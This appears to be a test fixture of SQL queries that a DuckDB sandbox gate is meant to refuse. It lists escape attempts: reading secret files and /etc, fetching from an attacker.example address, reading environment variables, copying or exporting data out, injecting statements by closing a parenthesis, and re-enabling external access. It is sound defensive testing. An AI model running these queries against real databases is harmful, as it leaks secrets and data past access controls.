-- Reaches for files, the network, the environment, Python, extensions, settings or writes: refused by the gate, and by the child without it.

-- name: read_csv of a file
select c0 as resource, false as ok, c0 as name from read_csv('{secret}', header = false, columns = {'c0': 'VARCHAR'})

-- name: read_text of a file
select content as resource, false as ok, filename as name from read_text('{secret}')

-- name: read_blob of a file
select filename as resource, false as ok, 'x' as name from read_blob('{secret}')

-- name: read_json of a file
select 'x' as resource, false as ok, 'x' as name from read_json('{secret}')

-- name: read_parquet of files
select 'x' as resource, false as ok, 'x' as name from read_parquet('/tmp/*.parquet')

-- name: file name as a table
select 'x' as resource, false as ok, 'x' as name from '{secret}'

-- name: list a folder
select file as resource, false as ok, file as name from glob('/etc/*')

-- name: guess the format of a file
select 'x' as resource, false as ok, 'x' as name from sniff_csv('{secret}')

-- name: file read in a scalar subquery
select account_key as resource, false as ok, (select content from read_text('{secret}')) as name from account

-- name: file read inside FILTER
select 'x' as resource, count(*) filter (where exists (select 1 from read_text('{secret}'))) = 0 as ok, 'x' as name from account

-- name: file read in ORDER BY
select account_key as resource, false as ok, 'x' as name from account order by (select content from read_text('{secret}'))

-- name: file read in a join condition
select a.account_key as resource, false as ok, 'x' as name from account a join account b on a.account_key = (select content from read_text('{secret}'))

-- name: file read in HAVING
select account_key as resource, false as ok, 'x' as name from account group by account_key having (select count(*) from read_text('{secret}')) > 0

-- name: file read in QUALIFY
select account_key as resource, false as ok, 'x' as name from account qualify row_number() over (order by (select content from read_text('{secret}'))) = 1

-- name: table of an HTTPS address
select 'x' as resource, false as ok, 'x' as name from 'https://attacker.example/steal.csv'

-- name: read_csv of an HTTP address
select 'x' as resource, false as ok, 'x' as name from read_csv('http://127.0.0.1:9/x')

-- name: object store
select 'x' as resource, false as ok, 'x' as name from read_parquet('s3://bucket/x.parquet')

-- name: environment variable
select getenv('AUDIT_CANARY') as resource, false as ok, 'x' as name

-- name: Python variable as a table
select secret as resource, false as ok, 'x' as name from SECRET_FRAME

-- name: install an extension
install httpfs

-- name: load an extension by path
load '/tmp/x.duckdb_extension'

-- name: attach a database file
attach '{out}' as x

-- name: copy out
copy (select account_key from account) to '{out}'

-- name: copy out inside a CTE
with x as (copy (select account_key from account) to '{out}') select 'x' as resource, false as ok, 'x' as name

-- name: export the database
export database '{out}'

-- name: import a database
import database '{secret}'

-- name: two statements
select 'x' as resource, false as ok, 'x' as name; copy account to '{out}'

-- name: close the wrapping parenthesis
select 'x' as resource, false as ok, 'x' as name) as judged; copy account to '{out}'; select 'x' as resource, false as ok from (select 1

-- name: comment over the wrapping
select 'x' as resource, false as ok, (select content from read_text('{secret}')) as name --

-- name: delete in a CTE
with gone as (delete from account returning account_key) select account_key as resource, false as ok, 'x' as name from gone

-- name: update in a CTE
with changed as (update account set enabled = false returning account_key) select account_key as resource, false as ok, 'x' as name from changed

-- name: insert in a CTE
with added as (insert into account (account_key) values ('x') returning account_key) select account_key as resource, false as ok, 'x' as name from added

-- name: drop a table
drop table account

-- name: create a macro over an allowed name
create or replace macro lower(x) as 'x'

-- name: open the lock
set enable_external_access = true

-- name: reset the memory limit
reset memory_limit

-- name: pragma
pragma database_list

-- name: call
call pragma_version()

-- name: query given as text
select * from query('select content as resource, false as ok, 1 as name from read_text(''{secret}'')')

-- name: serialized query
select * from json_execute_serialized_sql(json_serialize_sql('select content as resource, false as ok, 1 as name from read_text(''{secret}'')'))

-- name: variable set and read
set variable x = (select content from read_text('{secret}'))

-- name: write a log to a file
select 'x' as resource, false as ok, write_log('x') as name from read_text('{secret}')

-- name: secret store
create persistent secret s (type s3, key_id 'x')

-- name: explain analyze
explain analyze select 'x' as resource

-- name: prepare
prepare x as select 1

-- name: pivot
pivot account on enabled using count(*)
